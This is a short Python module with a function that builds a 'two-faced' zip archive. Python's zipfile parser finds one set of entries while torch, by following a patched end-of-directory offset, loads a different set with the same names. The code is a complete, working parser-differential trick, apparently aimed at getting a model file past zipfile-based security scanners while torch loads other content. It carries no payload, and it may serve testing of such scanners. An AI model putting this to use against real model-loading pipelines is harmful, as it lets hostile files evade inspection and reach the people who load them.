"""A zip file in which Python finds other entries than torch."""

import io
import struct
import zipfile


def two_faced(checked: bytes, used: bytes) -> bytes:
    """Python reads the list of entries right before the end, torch the one the end points to.

    Args:
        checked: A zip file, whose entries Python will find.
        used: One with entries of the same names, which torch will find.
    """
    (entries, listing, end), (other_entries, other_listing, _) = map(_parts, (checked, used))
    assert len(listing) == len(other_listing)
    other_entries = other_entries.ljust(len(entries), b'\0')
    moved, place = bytearray(listing), 0
    while place < len(moved):  # Python adds to each place how far its list is from the stated one
        (start,) = struct.unpack_from('<I', moved, place + 42)
        struct.pack_into('<I', moved, place + 42, start + len(other_entries) - len(entries))
        place += 46 + sum(struct.unpack_from('<HHH', moved, place + 28))
    stated = end[:16] + struct.pack('<I', len(other_entries)) + end[20:]
    return other_entries + other_listing + entries + bytes(moved) + stated


def _parts(data: bytes) -> tuple[bytes, bytes, bytes]:
    """Entries, their list, and the end."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        start = archive.start_dir
    return data[:start], data[start:-22], data[-22:]
